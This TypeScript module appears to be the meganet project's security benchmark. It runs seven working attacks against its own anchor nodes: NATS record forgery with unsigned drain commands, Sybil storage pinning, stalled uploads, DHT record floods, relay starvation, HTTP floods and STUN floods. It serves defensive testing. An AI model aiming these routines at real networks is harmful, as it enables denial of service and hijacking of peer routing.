import { randomBytes } from 'node:crypto'
import { generateKeyPair, publicKeyToProtobuf } from '@libp2p/crypto/keys'
import { peerIdFromPrivateKey, peerIdFromString } from '@libp2p/peer-id'
import { lpStream } from '@libp2p/utils'
import { multiaddr } from '@multiformats/multiaddr'
import { Kvm } from '@nats-io/kv'
import { connect } from '@nats-io/transport-node'
import { CID } from 'multiformats/cid'
import { sha256 } from 'multiformats/hashes/sha2'
import { MAX_BLOCK_BYTES, PEER_DIRECTORY_BUCKET, PROTOCOLS, commandSubject, membersBucket } from '@meganet/contracts'
import { cidOf, storeRequest } from '@meganet/node/testing'
import { rawNode } from './attack-node.js'
import { DHT_MESSAGE_TYPES, encodeMessage, encodeRecord } from './dht-wire.js'
import { StunDialler } from './stun-wire.js'
import type { RawNode } from './attack-node.js'
import type { Stream } from '@libp2p/interface'

/** An anchor as an attacker sees it: its PeerId, its TCP and WebRTC-direct addresses and its HTTP base URL. */
export interface AnchorRef {
  readonly peerId: string
  readonly tcpAddress: string
  readonly webrtcDirectAddress?: string
  readonly httpUrl: string
}

/** What an attack is given (plain data: attacks run in a process of their own). */
export interface AttackTarget {
  readonly anchors: readonly AnchorRef[]
  readonly natsUrl: string
  readonly scope: { readonly region: string, readonly fleet: string }
  /** Honest peers, and the anchor each holds its reservation on. */
  readonly victims: ReadonlyArray<{ peerId: string, anchor: AnchorRef }>
}

/** One attack running until stopped; it reports how many hostile requests it made. */
export interface RunningAttack {
  stop: () => Promise<number>
}

export interface Attack {
  readonly name: string
  readonly finding: string
  start: (target: AttackTarget) => Promise<RunningAttack>
}

/** Repeats `step` until stopped (errors are the defence answering, and counted as attempts). */
function loop (step: () => Promise<void>, pauseMs = 0): RunningAttack {
  let running = true
  let attempts = 0
  const done = (async () => {
    while (running) {
      attempts++
      await step().catch(() => {})
      await new Promise(resolve => setTimeout(resolve, pauseMs))
    }
  })()
  return { stop: async () => { running = false; await done; return attempts } }
}

function parallel (attacks: RunningAttack[], cleanup: () => Promise<void> = async () => {}): RunningAttack {
  return {
    stop: async () => {
      const counts = await Promise.all(attacks.map(async a => await a.stop()))
      await cleanup()
      return counts.reduce((a, b) => a + b, 0)
    }
  }
}

async function nodesFrom (network: string, count: number): Promise<RawNode[]> {
  return await Promise.all(Array.from({ length: count }, async (_, i) => await rawNode({ localAddress: `${network}.${1 + (i % 250)}` })))
}

async function stopAll (nodes: readonly RawNode[]): Promise<void> {
  await Promise.allSettled(nodes.map(async n => { await n.stop() }))
}

function varint (value: number): Uint8Array {
  const out: number[] = []
  let rest = value
  while (rest >= 0x80) { out.push((rest & 0x7f) | 0x80); rest = Math.floor(rest / 128) }
  out.push(rest)
  return Uint8Array.from(out)
}

/** Finding 1: an anonymous NATS client drains, stuffs the membership, overwrites records, redirects peers. */
const natsForgery: Attack = {
  name: 'nats-forgery',
  finding: 'unsigned drain commands, 12 forged storage members dated 10 min ahead, real records overwritten, directory entries redirected',
  start: async target => {
    const nc = await connect({ servers: target.natsUrl })
    const members = await new Kvm(nc).open(membersBucket(target.scope))
    const directory = await new Kvm(nc).open(PEER_DIRECTORY_BUCKET)
    const fakes = await Promise.all(Array.from({ length: 12 }, async () => peerIdFromPrivateKey(await generateKeyPair('Ed25519')).toString()))
    const step = async (): Promise<void> => {
      const real = await members.get(target.anchors[0]?.peerId ?? '')
      const envelope = real == null ? undefined : JSON.parse(new TextDecoder().decode(real.value)) as { payload: string }
      const record = envelope == null ? {} : JSON.parse(envelope.payload) as Record<string, unknown>
      for (const [i, fake] of fakes.entries()) {
        await members.put(fake, new TextEncoder().encode(JSON.stringify({ ...record, peerId: fake, multiaddrs: [`/ip4/203.0.113.${i + 1}/tcp/4001/p2p/${fake}`], updatedAt: Date.now() + 600_000 })))
      }
      for (const anchor of target.anchors) {
        await members.put(anchor.peerId, new TextEncoder().encode(JSON.stringify({ ...envelope, payload: JSON.stringify({ ...record, peerId: anchor.peerId, phase: 'drained' }) })))
        await nc.request(commandSubject(target.scope, anchor.peerId), new TextEncoder().encode('{"command":"drain"}'), { timeout: 2_000 }).catch(() => {})
      }
      for (const victim of target.victims) {
        const trap = { schema: 1, peerId: victim.peerId, anchor: fakes[0], region: target.scope.region, fleet: target.scope.fleet, multiaddrs: [`/ip4/203.0.113.66/tcp/1/p2p/${fakes[0]}/p2p-circuit/p2p/${victim.peerId}`], updatedAt: Date.now(), expiresAt: Date.now() + 3_600_000 }
        await directory.put(`${victim.peerId}.${victim.anchor.peerId}`, new TextEncoder().encode(JSON.stringify(trap)))
      }
    }
    return parallel([loop(step, 100)], async () => { await nc.close() })
  }
}

/** Finding 2: fresh PeerIds from one network pin blocks until the fleet is full. */
const storageSybil: Attack = {
  name: 'storage-sybil',
  finding: 'fresh PeerIds from one /24 pinning 256 KiB blocks as fast as the anchors take them',
  start: async target => {
    const nodes = await nodesFrom('127.0.1', 20)
    const block = randomBytes(256 * 1024)
    const attacks = nodes.map((node, i) => loop(async () => {
      const anchor = target.anchors[i % target.anchors.length]
      if (anchor == null) return
      block.writeUInt32BE(Math.floor(Math.random() * 2 ** 32), 0)
      const cid = await cidOf(block, 'raw')
      await node.dial(multiaddr(anchor.tcpAddress))
      await storeRequest(node, peerIdFromString(anchor.peerId), { op: 'put', cid: cid.toString(), size: block.byteLength, pin: true }, block)
    }))
    return parallel(attacks, async () => { await stopAll(nodes) })
  }
}

/** Finding 3: uploads announced at full size that stall, to hold the anchor's memory. */
const stalledUploads: Attack = {
  name: 'stalled-uploads',
  finding: '4 connections x 16 streams announcing 4 MiB blocks, sending 3 MiB and stalling; headers announcing 4 MiB',
  start: async target => {
    const nodes = await nodesFrom('127.0.3', 4)
    const block = randomBytes(MAX_BLOCK_BYTES - 1024)
    const cid = (await cidOf(block, 'raw')).toString()
    const streams: Stream[] = []
    const attacks = nodes.flatMap((node, n) => Array.from({ length: 16 }, (_, s) => loop(async () => {
      const anchor = target.anchors[(n + s) % target.anchors.length]
      if (anchor == null) return
      const stream = await node.dialProtocol(multiaddr(anchor.tcpAddress), PROTOCOLS.store, { signal: AbortSignal.timeout(5_000) })
      streams.push(stream)
      if (s % 4 === 0) {
        // A header frame announced at 4 MiB, of which little ever comes.
        stream.send(varint(4 * 1024 * 1024))
        stream.send(new TextEncoder().encode('{"op":"put"'))
      } else {
        await lpStream(stream).write(new TextEncoder().encode(JSON.stringify({ op: 'put', cid, size: block.byteLength })))
        stream.send(varint(block.byteLength))
        stream.send(block.subarray(0, 3 * 1024 * 1024))
      }
      // Hold it until the anchor gives up on it (or refuses it at once).
      await new Promise<void>(resolve => {
        if (stream.status !== 'open') { resolve(); return }
        stream.addEventListener('close', () => { resolve() }, { once: true })
        setTimeout(resolve, 30_000).unref()
      })
    }, 50)))
    return parallel(attacks, async () => {
      for (const stream of streams) stream.abort(new Error('attack over'))
      await stopAll(nodes)
    })
  }
}

/** Finding 3: provider and value records from one peer, without end. */
const dhtFlood: Attack = {
  name: 'dht-flood',
  finding: 'ADD_PROVIDER and PUT_VALUE (/pk records) from 4 peers, without end',
  start: async target => {
    const nodes = await nodesFrom('127.0.4', 4)
    const attacks = nodes.map((node, i) => loop(async () => {
      const anchor = target.anchors[i % target.anchors.length]
      if (anchor == null) return
      const stream = await node.dialProtocol(multiaddr(anchor.tcpAddress), PROTOCOLS.dht, { signal: AbortSignal.timeout(5_000) })
      const framed = lpStream(stream)
      const id = node.peerId.toMultihash().bytes
      const address = multiaddr('/ip4/127.0.0.1/tcp/1').bytes
      try {
        for (let k = 0; k < 200 && stream.status === 'open'; k++) {
          const cid = CID.createV1(0x55, await sha256.digest(randomBytes(16)))
          await framed.write(encodeMessage({ type: DHT_MESSAGE_TYPES.ADD_PROVIDER, key: cid.multihash.bytes, providers: [{ id, multiaddrs: [address] }] }))
          const key = publicKeyToProtobuf((await generateKeyPair('Ed25519')).publicKey)
          const recordKey = Uint8Array.from([...new TextEncoder().encode('/pk/'), ...(await sha256.digest(key)).bytes])
          await framed.write(encodeMessage({ type: DHT_MESSAGE_TYPES.PUT_VALUE, key: recordKey, record: encodeRecord(recordKey, key) }))
        }
      } finally {
        stream.abort(new Error('next stream'))
      }
    }))
    return parallel(attacks, async () => { await stopAll(nodes) })
  }
}

/** Finding 5: circuits held to honest peers, and reservations from neighbouring addresses. */
const relayStarvation: Attack = {
  name: 'relay-starvation',
  finding: '4 PeerIds from one /24 holding as many circuits to each honest peer as they get; 48 reservations from 6 neighbouring addresses',
  start: async target => {
    const holders = await nodesFrom('127.0.5', 4)
    const reservers = await Promise.all(Array.from({ length: 48 }, async (_, i) => await rawNode({ localAddress: `127.0.6.${1 + (i % 6)}`, reserve: true })))
    for (const [i, node] of reservers.entries()) await node.dial(multiaddr(target.anchors[i % target.anchors.length]?.tcpAddress ?? '')).catch(() => {})
    const attacks = holders.map(node => loop(async () => {
      for (const victim of target.victims) {
        await node.dial(multiaddr(`${victim.anchor.tcpAddress}/p2p-circuit/p2p/${victim.peerId}`), { force: true, signal: AbortSignal.timeout(5_000) }).catch(() => {})
      }
    }, 500))
    return parallel(attacks, async () => { await stopAll([...holders, ...reservers]) })
  }
}

/** Finding 6: requests to the HTTP endpoints as fast as they answer. */
const httpFlood: Attack = {
  name: 'http-flood',
  finding: '64 concurrent clients requesting /bootstrap, /status and /metrics without pause',
  start: async target => {
    const paths = ['/bootstrap', '/status', '/metrics']
    await Promise.resolve()
    const attacks = Array.from({ length: 64 }, (_, i) => loop(async () => {
      const anchor = target.anchors[i % target.anchors.length]
      if (anchor == null) return
      await (await fetch(`${anchor.httpUrl}${paths[i % paths.length] ?? '/status'}`, { signal: AbortSignal.timeout(5_000) })).arrayBuffer()
    }))
    return parallel(attacks)
  }
}

/** The host and UDP port of a WebRTC-direct address. */
function udpTarget (address: string | undefined): { host: string, port: number } | undefined {
  if (address == null) return undefined
  const components = multiaddr(address).getComponents()
  const host = components.find(c => c.name === 'ip4' || c.name === 'ip6')?.value
  const port = components.find(c => c.name === 'udp')?.value
  return host == null || port == null ? undefined : { host, port: Number(port) }
}

/** Issue 17's security pass: each STUN binding request with a fresh ufrag made the anchor build a native peer connection. */
const webrtcDirectFlood: Attack = {
  name: 'webrtc-direct-flood',
  finding: 'STUN binding requests, each for a new connection, from 16 addresses to every anchor\'s WebRTC-direct port, about 320 a second per anchor',
  start: async target => {
    const ports = target.anchors.flatMap(anchor => udpTarget(anchor.webrtcDirectAddress) ?? [])
    const sources = await Promise.all(Array.from({ length: 16 }, async (_, i) => await StunDialler.open(`127.0.7.${1 + i}`)))
    const attacks = sources.flatMap(source => ports.map(({ host, port }) => loop(async () => { await source.request(host, port) }, 50)))
    return parallel(attacks, async () => { await Promise.all(sources.map(async source => { await source.close() })) })
  }
}

/** Every attack of issues 13 and 17, in the order the benchmark runs them. */
export const ATTACKS: readonly Attack[] = [natsForgery, storageSybil, stalledUploads, dhtFlood, relayStarvation, httpFlood, webrtcDirectFlood]
